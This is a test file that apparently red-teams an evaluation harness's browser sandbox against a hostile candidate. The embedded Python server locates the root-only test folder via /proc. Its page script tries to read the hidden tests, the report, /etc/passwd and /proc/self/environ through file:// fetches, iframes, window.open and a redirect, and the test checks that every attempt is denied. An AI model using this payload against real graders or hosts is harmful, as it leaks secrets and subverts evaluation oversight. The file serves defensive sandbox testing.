import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { dockerReady } from '../sandbox/guard.js';
import { browserOracle } from '../../oracles/browser/index.js';
import { DockerSandboxProvider } from '../../src/sandbox/index.js';
import { fakeContext, removeFakeContexts } from '../oracles/host-sandbox.js';
/**
 * Red team, second pass: the candidate's server learns the root-only folder's name (from /tmp and root's
 * /proc/<pid>/cmdline) and serves a page that asks root's Chromium for file:// URLs of the tests, the
 * report, /etc/passwd and /proc/self/environ, by fetch, iframe, window.open and a redirect. None is read.
 */
const ready = await dockerReady();
afterAll(removeFakeContexts);
const SERVER = `import glob, http.server, os, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        if u.path == '/log':
            open(os.environ['BATON_OUT'] + '/log.txt', 'a').write(urllib.parse.unquote(u.query) + '\\n')
            body = b'ok'
        elif u.path == '/redir':
            self.send_response(302); self.send_header('Location', 'file:///etc/passwd'); self.end_headers(); return
        else:
            roots = glob.glob('/tmp/baton-e2e-*')
            cmdl = [open(p,'rb').read().replace(b'\\0', b' ').decode() for p in glob.glob('/proc/[0-9]*/cmdline') if b'baton-e2e' in open(p,'rb').read()]
            open(os.environ['BATON_OUT'] + '/log.txt', 'a').write('server sees ' + repr(roots) + repr(cmdl)[:300] + '\\n')
            r = roots[0] if roots else '/tmp'
            body = ('''<html><head><title>Counter</title></head><body><script>
const R = %r;
const log = (s) => fetch('/log?' + encodeURIComponent(s));
for (const u of [R + '/tests/t.spec.js', R + '/report.json', '/etc/passwd', '/proc/self/environ']) {
  fetch('file://' + u).then(r => r.text()).then(t => log('fetch OK ' + u + ' ' + t.slice(0,80)), e => log('fetch DENIED ' + u + ' ' + e));
  const f = document.createElement('iframe'); f.src = 'file://' + u; f.onload = () => { try { log('iframe ' + u + ' ' + f.contentDocument.body.innerText.slice(0,80)); } catch (e) { log('iframe DENIED ' + u + ' ' + e); } }; document.body.appendChild(f);
}
try { const w = window.open('file://' + R + '/tests/t.spec.js'); log('open ' + w); } catch (e) { log('open DENIED ' + e); }
log('ua ' + navigator.userAgent + ' webdriver ' + navigator.webdriver);
</script></body></html>''' % r).encode()
        self.send_response(200); self.send_header('Content-Type', 'text/html'); self.end_headers(); self.wfile.write(body)
http.server.HTTPServer(('127.0.0.1', 8000), H).serve_forever()
`;
describe.runIf(ready.ok)('browser oracle vs a hostile page', () =>
  it("root Chromium never reads file:// for the candidate's page", async () => {
    const f = fakeContext({ id: 'e2e', kind: 'browser', serve: 'python3 server.py', port: 8000, tests: 'oracle/e2e' });
    mkdirSync(path.join(f.ctx.experimentDir, 'oracle', 'e2e'), { recursive: true });
    writeFileSync(
      path.join(f.ctx.experimentDir, 'oracle', 'e2e', 't.spec.js'),
      `// SECRET-zz9\nimport { test, expect } from '@playwright/test';\ntest('a', async ({ page }) => { await page.goto('/'); await page.waitForTimeout(3000); await page.goto('/redir').catch(e => console.log(String(e))); await expect(page).toHaveTitle('Counter'); });\n`,
    );
    writeFileSync(path.join(f.ctx.snapshotDir, 'server.py'), SERVER);
    const provider = new DockerSandboxProvider();
    f.ctx.startSandbox = (opts) =>
      provider.start({ spec: { ...f.ctx.spec.sandbox, memory: '1g' }, role: 'oracle', ...opts, labels: { experiment: 'rt2b', run: 'r1', iteration: 1 } });
    const m = await browserOracle.measure(f.ctx);
    expect(m.status, m.reason).toBe('ok');
    expect(m.metrics['e2e.passed']).toBe(0);
    const log = readdirSync(f.ctx.outDir).includes('log.txt') ? readFileSync(path.join(f.ctx.outDir, 'log.txt'), 'utf8') : '';
    expect(log).toMatch(/server sees \['\/tmp\/baton-e2e-[0-9a-f]+'\]/);
    for (const u of ['/tests/t.spec.js', '/report.json', '/etc/passwd', '/proc/self/environ'])
      expect(log).toMatch(new RegExp(`fetch DENIED \\S*${u.replace(/[/.]/g, '\\$&')}`));
    expect(log).not.toContain('fetch OK');
    expect(log).not.toMatch(/^iframe (?!DENIED)/m);
    expect(log).not.toContain('SECRET-zz9');
    expect(log).not.toContain('root:x:0');
  }, 300_000),
);
